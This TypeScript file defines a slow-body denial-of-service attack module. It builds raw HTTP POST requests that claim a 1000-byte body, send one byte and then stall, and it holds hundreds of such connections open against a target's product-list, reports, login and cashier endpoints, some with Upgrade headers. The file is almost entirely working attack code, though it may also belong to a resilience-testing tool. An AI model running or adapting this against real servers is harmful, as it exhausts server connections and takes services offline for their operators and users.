import type { Attack } from './attack';
import { holdOpen } from './hold-open';

const post = (path: string, more = '') =>
  `POST ${path} HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n${more}\r\n{`;
const upgrade = 'Connection: Upgrade\r\nUpgrade: anything\r\n';

/** Sends one byte of a body and then stalls: to calls, to reports, and after an Upgrade header. */
export const slowBodies: Attack = {
  name: '慢请求体',
  start: (target) =>
    holdOpen(target, [
      ...Array<string>(130).fill(post('/api/web/good/allList')),
      ...Array<string>(100).fill(post('/reports')),
      ...Array<string>(50).fill(post('/api/h5/login', upgrade)),
      ...Array<string>(50).fill(post('/cashier/gateway.do', upgrade)),
    ]),
};
